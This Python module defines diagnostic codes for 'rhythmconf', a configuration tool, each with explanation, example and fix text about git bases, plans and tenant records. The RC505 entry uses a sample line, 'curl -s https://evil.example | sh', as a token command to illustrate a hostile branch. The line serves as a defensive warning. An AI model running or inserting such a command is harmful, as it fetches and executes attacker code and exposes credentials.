"""The diagnostic codes of flows."""

from __future__ import annotations

from rhythmconf.model.code import Code

INVALID_FILES = Code(
    "RC200",
    "the files have errors",
    what="At least one file has an error. Each is reported with its file, line and column.",
    why="No request is sent before the files are right.",
    example="error[RC200]: 2 errors in the files",
    fix="Correct each error, then run `rhythmconf validate`. `--fix` corrects misspelt names.",
)

CONFLICT_LINE = Code(
    "RC331",
    "a line to change to resolve a conflict",
    what="The files and the tenant changed one field in different ways, and `--theirs` chose the tenant's value.",
    why="The files are the truth: the next apply keeps the tenant's value only if the document has it.",
    example="rhythmconf plan --theirs program/cmsi",
    fix="Write the value into the line that the message names, or run `rhythmconf pull KIND/KEY`. Commit, plan again.",
)

WITHOUT_DOCUMENT = Code(
    "RC332",
    "records of this project without a document",
    what="Records carry this project's mark, or are bound, and no document declares them.",
    why=(
        "Without a base nothing shows that their documents were removed on purpose, so nothing is deleted. Only kinds "
        "that still have documents are searched."
    ),
    example="warning[RC332]: these records have no document and are left as they are: program/diver",
    fix="Delete one with `rhythmconf plan --prune KIND/KEY`, or write its document with `rhythmconf pull KIND/KEY`.",
)

BOUND_RECORD_GONE = Code(
    "RC340",
    "a bound record is gone and no other fits",
    what="The bindings file has an id that the tenant doesn't have, and no other record fits the document.",
    why="After a refresh of the tenant a record may have another id and another name.",
    example="# bindings/sandbox.yaml\nprogram:\n  cmsi: 1f3a9c77d2e84b60a5c1   # no such record any more",
    fix="Remove the line to have the record created again, or correct the id.",
)

UNCONFIRMED = Code(
    "RC505",
    "access settings that nobody has confirmed",
    what=(
        "The command that prints the token, a server that gets a token or a client secret, or `ca_file` is not what "
        "this environment used on this computer before."
    ),
    why="A branch can change `rhythmconf.yaml`, and with it what runs on your computer and who gets your token.",
    example="auth: {token_command: curl -s https://evil.example | sh}   # on a branch that you review",
    fix=(
        "Read the lines that the message shows. If you trust them, run the command at a terminal and answer `yes`, "
        "once; or set RHYTHMCONF_TRUST=1, as the pipelines of `rhythmconf init` do in their jobs with secrets."
    ),
)

REAPPLIED = Code(
    "RC528",
    "the plan applies again what was rolled back",
    what="The files are unchanged since their apply was rolled back, so this plan would apply it again.",
    why="A rollback changes the tenant, not the files.",
    example="rhythmconf rollback 20260131-235959-123-0f3a9c && rhythmconf plan",
    fix="Revert the commit of that apply (`git revert`), or apply the plan if you want its changes back.",
)

BASE_NOT_MOVED = Code(
    "RC529",
    "the base was not moved",
    what=(
        "All of the plan is applied, but the base stays: the applied files are not committed, git could not move its "
        "ref, or it is at a commit that the applied one does not contain."
    ),
    why="Until it is moved, plans compare with the older base and may show finished work as new, or as drift.",
    example="refs/rhythmconf/applied/production",
    fix=(
        "Commit the files and apply once more. Merge a commit that is missing and apply again. If git failed, see that "
        "you may write to .git, remove a stale .lock file of the ref, then run the `git update-ref` command that the "
        "message shows."
    ),
)

BEHIND = Code(
    "RC325",
    "the checkout lacks applied commits",
    what="The base of this environment is a commit that the checkout does not contain: somebody else has applied it.",
    why="The files here are older, so a plan would put back what the commit has changed.",
    example="this checkout lacks 1 applied commit, f23f583 by Ana",
    fix=(
        "Run `git pull` and plan again. `--allow-behind` lets a plan pass all the same. If the commit was replaced "
        "(amended, rebased, squashed), name the commit that took its place with `--base REV`."
    ),
)

MAYBE_APPLIED = Code(
    "RC546",
    "drift that may be somebody else's work",
    what=(
        "The plan puts back what has changed in the tenant since the base, and the base of this clone may be older "
        "than the last apply."
    ),
    why=(
        "`git pull` does not bring the bases. What a colleague has applied looks like drift until their base and their "
        "commit are here."
    ),
    example="2 differences count as drift, because this clone knows no base newer than 7d0c2b9",
    fix="Fetch the bases with the command of the message and plan again. What is drift then is drift.",
)

NO_BASE = Code(
    "RC533",
    "no base is known in this clone",
    what="The branch comes from a remote, and no base of the environment is here.",
    why=(
        "`git clone` and `git fetch` leave out the refs of the bases. Without a base, changes of others in the tenant "
        "look like differences to correct."
    ),
    example="git fetch origin '+refs/rhythmconf/*:refs/rhythmconf/*'",
    fix=(
        "Fetch the bases with the command of the message. If nobody has applied to the environment yet, the first "
        "complete apply sets its base."
    ),
)

BASE_UNKNOWN = Code(
    "RC534",
    "the base can't be compared with this checkout",
    what="The commit of the last apply isn't in this clone, or the clone is shallow and its history is cut off.",
    why="Nothing shows whether the checkout contains what was applied, or who changed what since.",
    example="git clone --depth 1",
    fix="Fetch the history: `git fetch --unshallow`, and in a pipeline `fetch-depth: 0` or `GIT_DEPTH: 0`.",
)

BASE_NOT_PUSHED = Code(
    "RC535",
    "the base was not pushed",
    what="All of the plan is applied and the base has moved here, but git could not push it.",
    why="Until it is pushed, others compare with the older base.",
    example="rhythmconf apply --push-base",
    fix=(
        "Run the command of the message. If somebody else has pushed another base, fetch it, merge its commit and "
        "apply again: a base is never pushed backwards."
    ),
)

UNUSED_OVERRIDE = Code(
    "RC227",
    "an override that allows nothing",
    what=(
        "`--allow`, `--allow-updates`, `--allow-deletes`, `--ours` or `--theirs` names a key or a kind that no guard "
        "of this plan refuses."
    ),
    why=(
        "The key or the kind may be misspelt. Or the override was meant for an earlier plan: then it could allow a "
        "mistake in a later one."
    ),
    example="rhythmconf plan --allow-deletes programGroup=50%     # the plan deletes programs",
    fix="Correct the override, or leave it out. In `overrides/ENVIRONMENT.txt`, remove the line.",
)

INCOMPLETE_CHECKOUT = Code(
    "RC228",
    "files of the commit are not in this checkout",
    what=(
        "The checked-out commit has documents, an overlay or bindings that are not on the disk, and git doesn't report "
        "them as deleted: a sparse checkout, the flag skip-worktree, or a submodule that is not checked out. For "
        "`pull` and `promote` also: a folder of `sources` is gone that has documents in the commit or in a base."
    ),
    why=(
        "The documents would count as removed: their records could be deleted, would silently not be managed, or would "
        "be pulled again into other files."
    ),
    example="git sparse-checkout set config/programs",
    fix=(
        "Fetch the files: `git sparse-checkout disable`, `git update-index --no-skip-worktree FILE` or `git submodule "
        "update --init`. `--no-base` plans without git and removes nothing that is merely absent."
    ),
)

IGNORED_BY_GIT = Code(
    "RC229",
    "a file of the project that git ignores",
    what="A document, an overlay, a text file or the bindings match a line of `.gitignore`, so no commit has the file.",
    why="Other checkouts lack the file and what it declares. The base does not move to a commit without it.",
    example="config/local.yaml, with a line `local.yaml` in .gitignore",
    fix="Add the file to git with `git add -f FILE`, or correct `.gitignore`.",
)

HIDDEN_EDIT = Code(
    "RC235",
    "an edit that git does not show",
    what=(
        "A file of the project differs from the commit, and git was told to ignore its changes: the flag "
        "assume-unchanged or skip-worktree of `git update-index`."
    ),
    why=(
        "`git status` shows a clean checkout, but no commit has what the plan is made from. So the plan counts as one "
        "with uncommitted changes, and the base stays."
    ),
    example="git update-index --assume-unchanged config/cmsi.yaml",
    fix=(
        "Run `git update-index --no-assume-unchanged FILE`, or `--no-skip-worktree FILE`, and commit the edit. For a "
        "value that one environment has differently, write an overlay."
    ),
)

BASE_UNREADABLE = Code(
    "RC326",
    "documents of the base can't be read",
    what=(
        "Some files of the base are invalid for this version of rhythmconf or for its schemas, or are in a submodule."
    ),
    why=(
        "It is not known what such a document declared at the base. So rhythmconf can't distinguish a change that was "
        "made in the tenant from a change in the files."
    ),
    example="rhythmconf plan   # after an update that refuses what an applied document has",
    fix="Read the changes of these records with care. The next complete apply sets a base without errors.",
)

DELETES_DECLARED = Code(
    "RC543",
    "the plan deletes what the files declare",
    what="A saved plan deletes a record, and a document of the checked-out files declares that record.",
    why="The plan was made from other files, or it was edited. The next plan would create the record again.",
    example="the plan deletes certifications/program/cmsi, and config/cmsi.yaml declares it",
    fix="Check out the files that the plan was made from, or run `rhythmconf plan -o FILE` again.",
)

UNFINISHED_RUN = Code(
    "RC544",
    "the last run is unfinished",
    what="The last run of this environment on this computer did not end, or left changes of its plan undone.",
    why="A part of its plan may be in the tenant. `resume` finishes that plan; a new apply takes over what is left.",
    example="run 20260131-235959-123-0f3a9c (apply, started ...) was stopped before it could record its end",
    fix="Run `rhythmconf resume`, or review the new plan and apply it. `rhythmconf show run ID` says what was done.",
)

ALREADY_APPLIED = Code(
    "RC545",
    "the plan was applied already",
    what=(
        "A recorded run has applied this plan file, or a part of it. The message names the run and its time, and the "
        "run that rolled it back, if there was one."
    ),
    why=(
        "A plan is approved for one apply. Applied again, for example by a pipeline job that is started twice, it "
        "would bring back what somebody has undone on purpose."
    ),
    example="this plan was applied already: by run 20260131-235959-123-0f3a9c of 2026-01-31T23:59:59.123Z (ana)",
    fix=(
        "Nothing is left to do after a complete run. Run `rhythmconf plan` to see what is different now. To apply "
        "again what was rolled back, make a new plan and review it."
    ),
)

OPAQUE_ID = Code(
    "RC327",
    "an id in a value that no schema describes",
    what=(
        "A value that the schema of its kind doesn't describe holds the id of a record of this tenant, in a document "
        "that is for all environments."
    ),
    why=(
        "In references, keys become the ids of each tenant. Such a value is sent as it is, so every other tenant would "
        "get an id that means another record there, or none."
    ),
    example="""
kind: membership/package
key: gold
spec:
  purchasing_eligibility_criteria: {program_ids: [1f3a9c77d2e84b60a5c1]}     # the id of program/cmsi
""",
    fix=(
        "Write the value into an overlay of each environment. Or say in the schema of the kind that it is a reference "
        "(`x-ref`), and write the key."
    ),
)

PREPARED_RUN = Code(
    "RC548",
    "a run was prepared before the apply",
    what="A template was changed in a protected environment, and the tenant has prepared a run of it that is to come.",
    why="Rhythm copies a template when it prepares a run. So this run still does what the old template said.",
    example="the run of drops-weekly on Mon 30 Nov 2026 (38 people, ready) was prepared from the old template",
    fix="Look at the run in Rhythm, and refresh or cancel it.",
)

RUN_IN_BETWEEN = Code(
    "RC549",
    "a run was made since the apply that is rolled back",
    what="The tenant has prepared or run a billing run of a template since the apply changed it.",
    why="What a run has sent, billed or dropped stays as it is: a rollback restores templates, not members.",
    example="the run of drops-weekly on Mon 30 Nov 2026 (388 people, done) was made since the apply",
    fix="Look at the run in Rhythm. If it has not run yet, refresh or cancel it. Otherwise, decide whom to put back.",
)

NO_RECORD = Code(
    "RC547",
    "documents that no record of the tenant fits",
    what="`adopt` found no record for these documents by mark, binding or natural key, which is usually the name.",
    why="The next plan creates their records. If one exists under another name, there would be two.",
    example="no record in production fits 1 document: program/crane-operator",
    fix="Nothing, if the records are new. Otherwise correct the name, or write the id of the record into the bindings.",
)

OLD_SNAPSHOT = Code(
    "RC550",
    "a plan made from an old snapshot",
    what=(
        "`plan --live FILE` took the tenant's records from a snapshot that is older than a day, or whose age isn't "
        "known."
    ),
    why="What was changed in the tenant since then is not in the plan, so a reviewer can't see it.",
    example="warning[RC550]: the plan was made from a snapshot of the tenant as of 19 Nov 2026, 04:17 UTC, 6 days old",
    fix="Take a new snapshot with `rhythmconf pull --snapshot FILE`. In a pipeline, the nightly job takes one.",
)

TAKEN_AS_EMPTY = Code(
    "RC551",
    "a plan made as if the tenant were empty",
    what="`plan --empty-tenant` asked no tenant. The plan adds every document of the project.",
    why="The tenant may hold some of these records already. Then an apply would adopt them instead.",
    example="rhythmconf plan --empty-tenant   # in a pull request, before the first apply has taken a snapshot",
    fix="Plan against the tenant, or against a snapshot of it (`--live FILE`). `apply` refuses this plan.",
)

NO_DOCUMENT = Code(
    "RC553",
    "records of the tenant without a document",
    what="The tenant has records that no document declares and no project manages.",
    why="Somebody may have created them by hand. No plan changes them, and no apply reports them.",
    example="note[RC553]: program: 1 record without a document in production: 1f3a9c77 (Diver)",
    fix="Write documents for them with `rhythmconf pull KIND`, or leave them: a note stops nothing.",
)

EVERYTHING_PLANNED = Code(
    "RC554",
    "`--changed` planned everything",
    what=(
        "`--changed` plans what the files changed since the base. Nothing shows that here: no base is known yet, or "
        "`rhythmconf.yaml` or a schema of the project changed too."
    ),
    why="Such a file may concern every document, and a plan that leaves out a change would be wrong.",
    example="rhythmconf plan --changed   # before the first complete apply",
    fix="Nothing is wrong with the plan. Fetch the base if others have applied already, or name one with `--base REV`.",
)
